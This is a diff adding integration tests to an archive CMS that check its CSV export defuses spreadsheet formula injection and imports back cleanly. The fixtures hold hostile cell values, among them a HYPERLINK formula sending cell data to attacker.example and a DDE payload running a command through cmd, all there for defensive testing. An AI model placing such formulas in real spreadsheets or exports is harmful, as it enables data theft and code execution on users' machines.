@@ -1,7 +1,9 @@
 import { spawnSync } from 'node:child_process'
-import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs'
+import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
+import { lexicalToParagraphs, paragraphsToLexical } from '@arkivi/content-schemas'
+import { parse } from 'csv-parse/sync'
 import type { Payload } from 'payload'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { startPayload, type TestPayload } from '../../cms/test/int/setup.ts'
@@ -138,6 +140,83 @@ describe('import', () => {
   it('keeps an imported draft and a restricted row away from the public', async () => {
     const { docs } = await payload.find({ collection: 'archive-items', overrideAccess: false, where: { identifier: { like: 'ARK-IMPORT' } } })
     expect(docs.map((doc) => doc.identifier).sort()).toEqual(['ARK-IMPORT-0001', 'ARK-IMPORT-0002'])
+  })
+})
+
+describe('CSV export opened in a spreadsheet', () => {
+  // Values a spreadsheet would run as formulas, legitimate ones that only look like it, and one
+  // that really starts with the quote the export adds. (Whitespace around values is trimmed by
+  // the import, so leading-space cases are in the unit tests of the rule.)
+  const identifier = 'ARK-FORMULA-0001'
+  const hostile = {
+    title: { sq: '=HYPERLINK("https://attacker.example/?d="&AE2;"hap")', sr: '-1990-ih: prva okupljanja', en: '@cel_ks +1' },
+    format: "'=literally this",
+    creators: ['+383 44 000 000', 'Qendra për Barazi dhe Liri (CEL)'],
+    place: { sq: '"=1+1"', sr: '\uFF1DSUM(A1)', en: 'Prishtina' },
+    consentNotes: "=cmd|' /C calc'!A0",
+    takedownNotes: 'info@cel-ks.org',
+  }
+  const description = ['=1+1', '- a bullet that starts a cell with a minus']
+  let exported: { file: string; dir: string }
+
+  beforeAll(async () => {
+    const data = {
+      ...hostile,
+      identifier,
+      title: hostile.title.sq,
+      place: hostile.place.sq,
+      description: paragraphsToLexical(description),
+      date: { value: '1995-01-01T00:00:00.000Z', precision: 'year' },
+      type: 'Text',
+      rights: 'InC',
+      visibility: 'restricted',
+      _status: 'draft',
+    } as const
+    const { id } = await payload.create({ collection: 'archive-items', data, locale: 'sq', draft: true })
+    for (const locale of ['sr', 'en'] as const) {
+      await payload.update({ collection: 'archive-items', id, data: { title: hostile.title[locale], place: hostile.place[locale] }, locale, draft: true })
+    }
+    const dir = mkdtempSync(path.join(tmpdir(), 'arkivi-export-formulas-'))
+    exported = { file: (await exportArchive(payload, 'csv', dir)).file, dir }
+  })
+  afterAll(() => rmSync(exported.dir, { recursive: true, force: true }))
+
+  it('writes a single quote in front of every cell a spreadsheet could run, and quotes every cell', () => {
+    const text = readFileSync(exported.file, 'utf8')
+    expect(text.startsWith('"identifier","title_sq","title_sr","title_en",')).toBe(true)
+    const rows = parse(text, { columns: true }) as Record<string, string>[]
+    expect(rows.find((row) => row.identifier === identifier)).toMatchObject({
+      title_sq: `'${hostile.title.sq}`,
+      title_sr: `'${hostile.title.sr}`,
+      title_en: `'${hostile.title.en}`,
+      format: `'${hostile.format}`,
+      creators: `'${hostile.creators.join('; ')}`,
+      place_sq: `'${hostile.place.sq}`,
+      place_sr: `'${hostile.place.sr}`,
+      place_en: 'Prishtina',
+      description_sq: `'${description.join('\n\n')}`,
+      consent_notes: `'${hostile.consentNotes}`,
+      takedown_notes: 'info@cel-ks.org',
+    })
+    for (const cell of rows.flatMap((row) => Object.values(row))) {
+      expect(cell).not.toMatch(/^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^\s*[\t\r\n]/)
+    }
+  })
+
+  it('reads the prefix off a cell only where the export would have put it', () => {
+    const file = path.join(exported.dir, 'hand-made.csv')
+    writeFileSync(file, `identifier,title_sq,title_sr,title_en,format\nARK-HAND-1,'-1990s,''=x,'O'Brien,-1990s\n`)
+    expect(readRecords(file)[0].values).toEqual({ identifier: 'ARK-HAND-1', title_sq: '-1990s', title_sr: "'=x", title_en: "'O'Brien", format: '-1990s' })
+  })
+
+  it('imports the export back to exactly the original values', async () => {
+    await payload.delete({ collection: 'archive-items', where: { identifier: { equals: identifier } } })
+    const { plan, run } = await importFile(exported.file)
+    expect(plan.problems).toEqual([])
+    await run()
+    const [item] = (await payload.find({ collection: 'archive-items', where: { identifier: { equals: identifier } }, locale: 'all', draft: true })).docs
+    expect(item).toMatchObject(hostile)
+    expect(lexicalToParagraphs((item.description as Record<string, unknown>).sq)).toEqual(description)
   })
 })
 
